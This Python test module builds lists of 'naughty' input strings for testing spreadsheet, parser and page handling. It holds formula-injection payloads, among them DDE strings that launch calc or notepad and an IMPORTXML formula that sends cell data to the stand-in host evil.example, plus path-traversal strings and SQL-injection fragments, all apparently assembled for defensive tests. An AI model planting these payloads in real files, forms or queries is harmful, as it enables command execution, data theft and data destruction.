"""At least 503 texts that break spreadsheets, parsers and pages; 200 that look like formulas."""

# ruff: noqa: E501

from itertools import product

from tests.journeys.hostile import HOSTILE

SIGNS = "=+-@\t\r\n＝＋－＠﹢﹣﹦﹫−⁺⁻"
BODIES = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")',
          "IMPORTXML(CONCAT(\"//evil.example?\",A1),\"//a\")", "", "=", "386 1 555 0142",
          "-2+3+cmd|'/C notepad'!A0", "{1;2}", "'x")  # fmt: skip
BEFORE = ("", " ", "'", "''", "\u200b", "\u00a0", "\ufeff")
FORMULAS = list(dict.fromkeys(a + b + c for a, b, c in product(BEFORE, SIGNS, BODIES)))

_CONTROLS = [f"a{chr(n)}b" for n in [*range(1, 32), *range(127, 160)]]
_LEADING = [f"{chr(n)}b" for n in [*range(1, 32), *range(127, 160)]]
_ODD = ["'", "''", "'''", "'a", "''a", "'=", "''=", "'''=", '"', '""', '"a', 'a"', '"a"', '","',
        "a,b", "a;b", "a|b", "a\tb", "a\nb", "a\r\nb", "a\rb", "\n", "\r\n", "a\n\nb", "sep=;",
        "TRUE", "FALSE", "1e5", "1E+05", "007", "1/2", "2026-01-02", "12:30", "0x1F", "1,000", "1.000",
        "-0", "NaN", "inf", "#N/A", "#REF!", "_x0041_", "_x000D_", "_x005F_", "__x0000_", "&amp;", "]]>",
        "<![CDATA[", "<!DOCTYPE a>", "<a>", "\\", "\\n", "\\\\", "\\\"", "a\\", "%00", "%0a", "\u2028", "\u2029",
        "\u0085", "\u00ad", "\u200d", "\u202e", "\ud7ff", "\ue000", "\ufffd", "𝒳", "🏳️‍🌈", "e\u0301", "é", "ﬁ",
        "İ", "ß", "ǅ", "   ", " a", "a ", "\u3000a", "Null", "undefined", "None"]  # fmt: skip
_PATHS = [
    f"{a}{b}" for a, b in product(("../", "..\\", "file:///", "C:\\", "//"), ("x", "etc/passwd"))
]
_SQL = [
    f"{a}{b}"
    for a, b in product(("'", '"', "`", ")", "';"), (" OR 1=1--", "; DROP TABLE x", "||'"))
]
_SCRIPTS = [chr(start + n) * 3 for start in (0x400, 0x5D0, 0x627, 0x905, 0xE01, 0x3042, 0x4E00, 0xAC00)
            for n in range(12)]  # fmt: skip
NAUGHTY = list(dict.fromkeys([*HOSTILE, *_CONTROLS, *_LEADING, *_ODD, *_PATHS, *_SQL, *_SCRIPTS,
                              *FORMULAS[::4]]))  # fmt: skip
